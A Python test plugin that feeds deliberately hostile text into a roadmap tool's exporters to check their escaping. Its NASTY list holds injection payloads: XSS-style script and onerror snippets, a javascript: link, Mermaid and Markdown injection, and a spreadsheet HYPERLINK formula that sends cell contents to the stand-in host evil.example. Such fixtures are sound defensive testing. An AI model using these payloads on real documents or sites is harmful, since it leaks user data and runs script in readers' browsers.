"""A test plugin whose texts are hostile to every export format.

Titles, descriptions, notes, authors, concepts, track and topic titles carry
spreadsheet formula prefixes, Markdown and HTML metacharacters, LaTeX
specials, Mermaid syntax, newlines, quotes, very long text, emoji and CJK.
URLs carry parentheses, entity-like ``&amp;``, pipes, stars and angle
brackets (all valid for the loader: http(s), no whitespace). The exporter
tests load it with ``llm_roadmap.load(extra_plugins=[("hostile", module)])``.
"""

from llm_roadmap import hookimpl

LONG = ("非常长的描述 very long description, " * 400).strip()

NASTY = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "+1+1 plus",
    "-2+3 minus",
    "@SUM(A1:A9) at",
    "\tTab first",
    "\u2028Line separator first",
    "\nLine feed first",
    "[a link](javascript:alert(1)) and ![img](http://evil.example/x.png)",
    "**bold** _em_ `code` | pipe | ~~strike~~ $x^2$ \\ backslash",
    "<script>alert('x')</script> <img src=x onerror=alert(1)> <!-- c -->",
    "&amp; &copy; &#x3C;script&#x3E; entities",
    "# not a heading",
    "- not a list",
    "1. not a list either",
    "> not a quote",
    "---",
    "===",
    "line one\nline two\n\n# not a heading after a blank line\n    indented code?",
    "\"double\" 'single' “curly” «guillemets»",
    "LaTeX: 50% of {braces} #hash ~tilde ^caret _under \\textbf{x} $math$ & amp",
    'Mermaid: end"] --> evil["x"] %%{init: {"theme": "dark"}}%% #quot; `tick` <b>b</b>',
    "emoji 🚀🤖👩‍💻 and CJK 注意力机制（全角）与 Ｆｕｌｌｗｉｄｔｈ",
    "trailing backslash \\",
    "trailing hashes ##",
    "<https://autolink.example> www.example.com https://bare.example",
    "| a | b |\n|---|---|\n| c | d |",
    "and Tom and Jerry, Inc.",
    "} closing first, then {{ unbalanced { braces",
    "Zero\u200bwidth, \u200eLRM and \ufeffBOM: invisible but not controls",
    LONG,
]

URLS = [
    "https://en.wikipedia.org/wiki/Attention_(machine_learning)",
    "https://example.org/?a=1&amp;b=2&copy;",
    "https://example.org/a|b*c*_d_",
    "https://example.org/<script>",
    "https://example.org/back\\slash",
    "https://example.org/unbalanced(paren",
    "https://example.org/brackets[1]",
    "https://example.org/braces{x}",
    "https://例子.测试/路径?查询=值",
    "https://example.org/quote\"q'",
    "https://example.org/`tick`",
]


def _t(text):
    return {"zh": text, "en": text}


def resource_id(index):
    return f"hostile-{index}"


def _url(index):
    # Each hostile URL again for the later resources, on a host of its own:
    # one resource a URL, so loading the plugin raises no "same resource" warning.
    url = URLS[index % len(URLS)]
    again = index // len(URLS)
    return url.replace("://", f"://r{again}.", 1) if again else url


def _resources():
    resources = []
    kinds = ["paper", "book", "blog", "video", "repo"]
    for index, text in enumerate(NASTY):
        resources.append(
            {
                "id": resource_id(index),
                "title": {"zh": f"标题 {text}", "en": text},
                "url": _url(index),
                "kind": kinds[index % len(kinds)],
                "language": "en",
                "authors": [NASTY[(index + 1) % len(NASTY)][:60], "Smith, John", "李沐"],
                "year": 1990 + index,
                "identifiers": {"arxiv": f"2101.{index:05d}"} if index % 5 == 0 else {},
                "description": {"zh": f"描述 {text}", "en": f"{text} (description)"},
                "tags": ["hostile"],
            }
        )
    return resources


def _tracks():
    topics = []
    count = len(NASTY)
    per = 5
    for start in range(0, count, per):
        chunk = list(range(start, min(start + per, count)))
        placements = []
        for n, index in enumerate(chunk):
            placement = {"resource": resource_id(index), "note": _t(NASTY[(index + 2) % count])}
            if n == 1:
                placement["role"] = "optional"
            if n in (2, 3) and len(chunk) > 3:
                placement.update(role="alternative", group="pick-a-poison")
            placements.append(placement)
        topic_number = start // per
        topics.append(
            {
                "id": f"hostile-topic-{topic_number}",
                "title": _t(NASTY[start]),
                "summary": _t(NASTY[(start + 3) % count]),
                "concepts": [_t(NASTY[(start + 4) % count]), _t(NASTY[(start + 5) % count])],
                "resources": placements,
                "prerequisites": [f"hostile-topic-{topic_number - 1}"] if topic_number else [],
                "note": _t(NASTY[(start + 6) % count]),
                "emphasis": ["essential", "standard", "selective", "background"][topic_number % 4],
            }
        )
    return [
        {
            "id": "hostile-track",
            "title": _t('Track "end" <b>[x]</b> = | # 路线'),
            "summary": _t(NASTY[8]),
            "note": _t(NASTY[9]),
            "topics": topics,
        },
        {
            "id": "end",
            "title": _t("end"),
            "summary": _t("A track whose id is a Mermaid keyword."),
            "topics": [
                {
                    "id": "subgraph",
                    "title": _t("subgraph"),
                    "summary": _t("A topic whose id is a Mermaid keyword."),
                    "prerequisites": ["hostile-topic-0"],
                    "resources": [{"resource": resource_id(0)}],
                }
            ],
        },
    ]


@hookimpl
def register_tracks(register):
    register({"tracks": _tracks(), "resources": _resources()})


def load():
    """Load only this plugin (and the built-in exporters), isolated from the environment."""
    import sys

    import llm_roadmap

    return llm_roadmap.load(
        plugins=[],
        disable_plugins=["llm_roadmap.bundled"],
        environ={},
        strict=True,
        extra_plugins=[("hostile", sys.modules[__name__])],
    )
